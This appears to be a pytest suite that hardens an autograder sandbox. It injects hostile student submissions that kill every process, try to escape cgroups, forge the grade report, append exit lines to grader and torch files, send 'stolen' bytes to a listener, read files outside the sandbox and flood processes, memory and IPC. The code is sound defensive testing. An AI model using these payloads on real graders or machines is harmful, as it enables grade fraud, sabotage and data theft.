"""Hostile submissions: each is the reference solution with one attack injected, graded by the real suite in the
real sandbox, with ``--withhold none`` (the static rules of autograder/rules.py would otherwise withhold
the project before its code runs; tests/test_integrity.py tests that). For every attack: the run completes with a report, the attacked project loses only what the attack
breaks and the other scores what an honest run gives, nothing of the submission is left running, the kit's files
are unchanged, nothing reaches a listener on 127.0.0.1, and a canary file outside the submission appears in no
report or output.

The tasks graded are a cheap selection (``TASKS``, ``HONEST`` points for the reference) so the whole suite takes about a
minute; the slow test grades a forging submission in full.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest
from conftest import points_of

from autograder import grading, rubric
from autograder.sandbox import cgroups
from course.submission import KIT_ROOT

SOLUTIONS = KIT_ROOT / "solutions"
ASSIGNMENTS = KIT_ROOT / "assignments"
TASKS = "p1.shapes,p1.pair_loss,p2.linear.forward"
HONEST = {task: rubric.BY_ID[task].points for task in TASKS.split(",")}
P2_HONEST = HONEST["p2.linear.forward"]  # the project the attacks of project 1 leave alone

pytestmark = pytest.mark.usefixtures("sandbox")  # skipped without bubblewrap; failed under KIT_REQUIRE_SANDBOX=1


# ------------------------------------------------------------------------------------------------ the harness


class Listener:
    """A TCP server on 127.0.0.1 that counts every connection it receives."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        deadline = time.monotonic() + 600  # bounded: it stops by itself
        while self.running and time.monotonic() < deadline:
            try:
                conn, _ = self.server.accept()
            except (socket.timeout, OSError):
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.running = False
        self.thread.join(2)
        self.server.close()


def kit_digest() -> str:
    """A hash of every file of the installed grader and course packages, and of torch's __init__.py."""
    import torch

    digest = hashlib.sha256()
    for root in (KIT_ROOT / "autograder", KIT_ROOT / "course"):
        for path in sorted(root.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                digest.update(str(path).encode() + path.read_bytes())
    digest.update(Path(torch.__file__).read_bytes())
    return digest.hexdigest()


def processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


@pytest.fixture
def arena(tmp_path):
    """A listener, a canary outside the submission, the kit's digest before; checks all three after."""
    listener = Listener()
    canary = tmp_path / "canary.txt"
    secret = f"CANARY-{uuid.uuid4().hex}"
    canary.write_text(secret)
    marker = f"hostile-{uuid.uuid4().hex[:12]}"
    before = kit_digest()
    state = {"port": listener.port, "canary": str(canary), "secret": secret, "marker": marker, "outputs": []}
    yield state
    listener.close()
    time.sleep(0.5)
    assert listener.connections == 0, "the submission reached a listener on 127.0.0.1"
    assert kit_digest() == before, "the submission changed the kit's files"
    assert not processes_with(marker), "a process of the submission is still running"
    for text in state["outputs"]:
        assert secret not in text, "the canary file's text reached the report or the output"


def submission(tmp_path: Path, *, models_top: str = "", method: tuple[str, str, str] | None = None,
               project2_from: Path = SOLUTIONS) -> Path:
    """The reference with ``models_top`` run at the import of project1/models.py, and/or ``method``:
    (file, "class Name(", code) inserted at the start of that class's ``forward``."""
    root = tmp_path / "submission"
    for project, source in (("project1", SOLUTIONS), ("project2", project2_from)):
        (root / project).mkdir(parents=True)
        for path in (source / project).glob("*.py"):
            (root / project / path.name).write_text(path.read_text())
    models = root / "project1" / "models.py"
    if models_top:
        models.write_text(models_top + "\n" + models.read_text())
    if method:
        file, cls, code = method
        path = root / file
        text = path.read_text()
        start = text.index(cls)
        body = text.index("### BEGIN SOLUTION", text.index("def forward(self", start))
        indent = " " * 8  # the text before ``body`` already ends with the first line's indentation
        path.write_text(text[:body] + f"\n{indent}".join(code.strip().splitlines()) + "\n" + indent + text[body:])
    return root


def grade(arena, root: Path, tmp_path: Path, *options, tasks=TASKS):
    """Grade ``root`` in the sandbox; return (report, output). The report is written outside the submission."""
    report_path = tmp_path / "reports" / f"{uuid.uuid4().hex}.json"
    started = time.monotonic()
    proc = grading.run_suite(root, report_path, task=tasks, visibility="all",
                             extra=("--sandbox", "require", "--withhold", "none", *options))
    seconds = time.monotonic() - started
    assert report_path.is_file(), f"no report; pytest said:\n{proc.stdout[-3000:]}"
    text = report_path.read_text()
    arena["outputs"] += [text, proc.stdout]
    report = json.loads(text)
    report["_wall"] = seconds
    report["_path"] = report_path
    return report, proc.stdout


def points(report) -> dict[str, float]:
    return {t["task"]: t["points"] for t in report["tasks"]}


def attack(arena, code: str) -> str:
    """Attack code with the arena's values filled in."""
    return (code.replace("PORT", str(arena["port"])).replace("CANARY", arena["canary"])
            .replace("MARKER", arena["marker"]))


# ------------------------------------------------------------------------------------------------ the attacks


def test_an_import_that_never_returns_fails_its_project_at_once(arena, tmp_path):
    honest, _ = grade(arena, submission(tmp_path / "honest"), tmp_path, "--import-limit", "3")
    report, _ = grade(arena, submission(tmp_path, models_top="while True:\n    pass"), tmp_path,
                      "--import-limit", "3")
    got = points(report)
    assert got["p1.shapes"] == got["p1.pair_loss"] == 0 and got["p2.linear.forward"] == P2_HONEST
    assert "did not finish importing within 3 s" in report["import_errors"][0]["message"]
    # one limit for the whole project, not one per task (plus a margin for a loaded machine)
    assert report["_wall"] <= honest["_wall"] + 3 + 10, (report["_wall"], honest["_wall"])


def test_os_exit_inside_a_probe_costs_only_that_network(arena, tmp_path):
    root = submission(tmp_path, method=("project1/models.py", "class BaselineNet(", "import os\nos._exit(3)"))
    report, _ = grade(arena, root, tmp_path)
    shapes = next(t for t in report["tasks"] if t["task"] == "p1.shapes")
    assert shapes["passed"] == 2 and "exit code 3" in shapes["feedback"], shapes
    assert points(report)["p1.pair_loss"] == HONEST["p1.pair_loss"] and points(report)["p2.linear.forward"] == P2_HONEST


def test_a_segfault_is_named(arena, tmp_path):
    root = submission(tmp_path, method=("project1/models.py", "class SiameseNet(", "import ctypes\nctypes.string_at(0)"))
    report, _ = grade(arena, root, tmp_path)
    shapes = next(t for t in report["tasks"] if t["task"] == "p1.shapes")
    assert shapes["passed"] == 2 and "segmentation fault" in shapes["feedback"], shapes
    assert points(report)["p2.linear.forward"] == P2_HONEST


def test_killing_the_parent_and_every_visible_process_harms_nothing(arena, tmp_path):
    code = attack(arena, """
import os, signal
for _entry in os.listdir("/proc"):
    if _entry.isdigit() and int(_entry) != os.getpid():
        try:
            os.kill(int(_entry), signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
""")
    report, _ = grade(arena, submission(tmp_path, models_top=code), tmp_path)
    assert points(report) == HONEST


# a child that first tries to leave its control group (which root could, without the sandbox), then lingers
ESCAPE = ("import os, time\nfor f in ('/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/unified/cgroup.procs', "
          "'/sys/fs/cgroup/pids/cgroup.procs', '/sys/fs/cgroup/memory/cgroup.procs'):\n    try:\n"
          "        open(f, 'w').write(str(os.getpid()))\n    except OSError:\n        pass\n")


def test_a_detached_process_does_not_outlive_grading(arena, tmp_path):
    code = attack(arena, """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", ESCAPE + "time.sleep(300)", "MARKER"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""").replace("ESCAPE", repr(ESCAPE))
    report, _ = grade(arena, submission(tmp_path, models_top=code), tmp_path)
    assert points(report) == HONEST  # the arena checks that no process with the marker is left


FORGE = """
import json, os, subprocess, sys
_forged = json.dumps({"score": 100, "max_score": 100, "bonus": 15, "max_bonus": 15, "tasks": []})
_targets = []
for _entry in os.listdir("/proc"):
    try:
        _args = open(f"/proc/{_entry}/cmdline", "rb").read().split(b"\\0")
    except OSError:
        continue
    if b"--grade-report" in _args:
        _targets.append(_args[_args.index(b"--grade-report") + 1].decode())
for _target in _targets:
    try:
        open(_target, "w").write(_forged)
    except OSError:
        pass
    _wait = (f"t = time.time()\\nwhile not os.path.exists({_target!r}) and time.time() - t < 120:\\n"
             f"    time.sleep(0.1)\\ntime.sleep(0.5)\\nopen({_target!r}, 'w').write({_forged!r})")
    subprocess.Popen([sys.executable, "-c", ESCAPE + _wait, "MARKER"], start_new_session=True)
print("targets:", _targets)
"""


def test_the_report_cannot_be_forged(arena, tmp_path):
    root = submission(tmp_path, models_top=attack(arena, FORGE).replace("ESCAPE", repr(ESCAPE)),
                      project2_from=ASSIGNMENTS)
    report, _ = grade(arena, root, tmp_path, tasks="p1.shapes,p2")
    time.sleep(3)  # the forger rewrites the report half a second after it appears
    again = json.loads(report["_path"].read_text())
    assert again["score"] == report["score"] == HONEST["p1.shapes"], \
        "an honest grade: p1.shapes, and nothing of the skeleton p2"


@pytest.mark.slow
def test_the_forged_report_submission_scores_its_honest_39_not_100(arena, tmp_path):
    """The measured case of the issue: project 1 is the reference (plus the forger), project 2 the skeleton. The
    forger's code breaks the allow-list (``p1.rules``, 1 point); under ``--withhold none`` that costs only the rules
    task, so the honest score is project 1 without ``p1.rules``: 39 (it was 40 before the rules task existed)."""
    root = submission(tmp_path, models_top=attack(arena, FORGE).replace("ESCAPE", repr(ESCAPE)),
                      project2_from=ASSIGNMENTS)
    report, _ = grade(arena, root, tmp_path, tasks=None)
    time.sleep(3)
    lost = {task: got for task, got in points(report).items()
            if task.startswith("p1.") and got < rubric.BY_ID[task].points}
    assert lost == {"p1.rules": 0.0}, f"project 1 lost {lost}"
    assert json.loads(report["_path"].read_text())["score"] == report["score"] == \
        points_of("p1") - points_of("p1.rules")  # the skeleton's project 2 earns nothing


REWRITE = """
import os, pathlib
import course, torch
_written = []
_roots = [pathlib.Path(course.__file__).parent, pathlib.Path(torch.__file__).parent]
try:
    import autograder
    _roots.append(pathlib.Path(autograder.__file__).parent)
except ImportError:
    pass
for _root in _roots:
    for _path in list(_root.rglob("*.py"))[:200]:
        try:
            with open(_path, "a") as _f:
                _f.write("\\nraise SystemExit(0)\\n")
            _written.append(str(_path))
        except OSError:
            pass
print("rewrote", len(_written), "files")
"""


def test_the_grader_cannot_be_rewritten_for_the_next_submission(arena, tmp_path):
    grade(arena, submission(tmp_path / "attacker", models_top=REWRITE), tmp_path)
    # the next submission is faulty (ReLU's backward has the wrong sign): it must still fail
    faulty = submission(tmp_path / "faulty")
    framework = faulty / "project2" / "framework.py"
    framework.write_text(framework.read_text().replace("        return gradwrtoutput * self.output.sign()\n",
                                                       "        return -gradwrtoutput * self.output.sign()\n", 1))
    report, _ = grade(arena, faulty, tmp_path, tasks="p2.activations.backward")
    task = report["tasks"][0]
    assert task["points"] < task["max_points"] and "ReLU" in task["feedback"]


def test_no_network(arena, tmp_path):
    code = attack(arena, """
import socket
import subprocess
for _host in ("127.0.0.1", "localhost", "10.0.2.2"):
    try:
        socket.create_connection((_host, PORT), timeout=1).sendall(b"stolen")
        print("connected to", _host)
    except OSError as _exc:
        print("no network:", _exc)
""")
    report, _ = grade(arena, submission(tmp_path, models_top=code), tmp_path)
    assert points(report) == HONEST  # the arena checks the listener got nothing


def test_files_outside_the_submission_are_invisible(arena, tmp_path):
    code = attack(arena, """
import os
for _path in ("CANARY", os.path.dirname("CANARY"), os.path.expanduser("~"), "/work", "/root", "/home"):
    try:
        print(open(_path).read() if os.path.isfile(_path) else os.listdir(_path))
    except OSError as _exc:
        print("cannot read", _path, _exc)
raise RuntimeError(open("CANARY").read())
""")
    report, output = grade(arena, submission(tmp_path, models_top=code), tmp_path)
    assert report["import_errors"] and "FileNotFoundError" in report["import_errors"][0]["message"]
    assert points(report)["p2.linear.forward"] == P2_HONEST  # the arena checks the canary text is nowhere


def test_200_mb_of_output_is_cut_and_named(arena, tmp_path):
    code = 'import sys\nfor _ in range(200):\n    sys.stdout.write("x" * 1_000_000 + "\\n")\nsys.stdout.flush()'
    report, _ = grade(arena, submission(tmp_path, models_top=code), tmp_path)
    assert points(report) == HONEST
    assert any("printed more than 1 MB; the rest was cut" in note["text"] for note in report["notes"]), report["notes"]
    assert report["_path"].stat().st_size < 100_000


@pytest.mark.skipif(not cgroups.available() and os.geteuid() == 0,
                    reason="no cgroup and the grader runs as root: no memory or process cap can be enforced here")
def test_memory_past_the_cap_is_named(arena, tmp_path):
    code = "import torch\n_hog = torch.ones(3 * 2**30 // 4)\n_hog += 1"
    root = submission(tmp_path, method=("project1/models.py", "class BaselineNet(", code))
    report, _ = grade(arena, root, tmp_path, "--memory", "1G")
    shapes = next(t for t in report["tasks"] if t["task"] == "p1.shapes")
    assert shapes["passed"] == 2 and "ran out of memory (limit 1 GiB)" in shapes["feedback"], shapes
    assert points(report)["p2.linear.forward"] == P2_HONEST


@pytest.mark.skipif(not cgroups.available() and os.geteuid() == 0,
                    reason="no cgroup and the grader runs as root: no memory or process cap can be enforced here")
def test_hundreds_of_processes_are_refused_and_named(arena, tmp_path):
    code = attack(arena, """
import os, subprocess, sys
_children = []
for _ in range(300):
    _children.append(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "MARKER"]))
""")
    root = submission(tmp_path, method=("project1/models.py", "class BaselineNet(", code))
    report, _ = grade(arena, root, tmp_path)
    shapes = next(t for t in report["tasks"] if t["task"] == "p1.shapes")
    assert shapes["passed"] == 2 and "too many processes (limit 64)" in shapes["feedback"], shapes
    assert points(report)["p2.linear.forward"] == P2_HONEST


# ------------------------------------------------------------------------------------------------ the judge's side
# A stand-in for a hostile worker: project1/train.py's pair_loss writes on the worker's own socket (its file
# descriptor is the worker's first argument), in the frame format of multiprocessing's Connection. The judge runs in
# a subprocess of its own, so that its peak memory (VmHWM) is the judge's alone.

JUDGE = r"""
import json, sys, time
from autograder.sandbox.judge import Sandbox, StudentError, Worker
from autograder.sandbox.limits import Limits

def peak():
    for line in open("/proc/self/status"):
        if line.startswith("VmHWM"):
            return int(line.split()[1]) * 1024

worker = Worker(sys.argv[1], "project1", sandbox=Sandbox.choose("require", Limits(memory=2**30)),
                modules=("train",))
worker.start()
before, started, out = peak(), time.monotonic(), {}
try:
    worker.call("pair_loss", timeout=float(sys.argv[2]), target_logits=None, digit_logits=None, target=None,
                classes=None, aux_weight=0.0)
    out["kind"] = "returned"
except StudentError as exc:
    out.update(kind=exc.kind, message=exc.message)
except Exception as exc:
    out.update(kind="grader failed", message=f"{type(exc).__name__}: {exc}")
out.update(seconds=time.monotonic() - started, grew=peak() - before)
worker.close()
print(json.dumps(out))
"""


def judge_under_attack(tmp_path: Path, body: str, *, timeout: float, wall: float = 90) -> dict:
    """Call pair_loss (``body``) through a real sandboxed worker; the judge's outcome, seconds and memory growth."""
    root = tmp_path / "submission"
    (root / "project1").mkdir(parents=True)
    (root / "project1" / "train.py").write_text(
        "import os, struct, sys, time\n\ndef pair_loss(*args):\n    fd = int(sys.argv[1])\n"
        + "".join(f"    {line}\n" for line in body.strip().splitlines()))
    proc = subprocess.run([sys.executable, "-c", JUDGE, str(root), str(timeout)], capture_output=True, text=True,
                          timeout=wall, cwd=KIT_ROOT, check=False)
    assert proc.returncode == 0, proc.stderr[-3000:]
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    print(out)  # the figures (pytest -s)
    return out


def test_a_huge_frame_is_refused_before_the_judge_reads_it(tmp_path):
    out = judge_under_attack(tmp_path, """
os.write(fd, struct.pack("!i", 512 * 2**20))
for _ in range(512):
    os.write(fd, bytes(2**20))
time.sleep(60)
""", timeout=20)
    assert out["kind"] == "invalid" and "MiB" in out["message"], out
    assert out["grew"] < 64 * 2**20, f"the judge grew by {out['grew'] / 2**20:.0f} MiB reading a 512 MiB frame"


def test_a_frame_announced_and_never_sent_ends_at_once(tmp_path):
    out = judge_under_attack(tmp_path, """
os.write(fd, struct.pack("!i", 2**30) + bytes(16))
time.sleep(120)
""", timeout=5)
    assert out["kind"] in ("invalid", "timeout") and out["seconds"] < 5 + 2, out


def test_a_trickling_reply_ends_at_the_call_s_limit(tmp_path):
    out = judge_under_attack(tmp_path, """
os.write(fd, struct.pack("!i", 2**20))
for _ in range(600):
    os.write(fd, b"x")
    time.sleep(0.2)
""", timeout=3)
    assert out["kind"] == "timeout" and 3 <= out["seconds"] < 3 + 2, out


def test_an_undecodable_reply_is_the_submission_s_failure(tmp_path):
    out = judge_under_attack(tmp_path, """
os.write(fd, struct.pack("!i", 16) + b"not a torch.save")
time.sleep(60)
""", timeout=20)
    assert out["kind"] == "invalid" and "grader failed" not in out["message"], out


def test_writing_past_the_disk_cap_is_named(tmp_path):
    from autograder.sandbox.limits import Limits, format_size

    cap = getattr(Limits(), "disk", 256 * 2**20)
    out = judge_under_attack(tmp_path, f"""
with open("big.bin", "wb") as f:
    for _ in range({cap // 2**20 + 64}):
        f.write(bytes(2**20))
""", timeout=60)
    assert out["kind"] == "disk" and f"ran out of disk (limit {format_size(cap)})" in out["message"], out
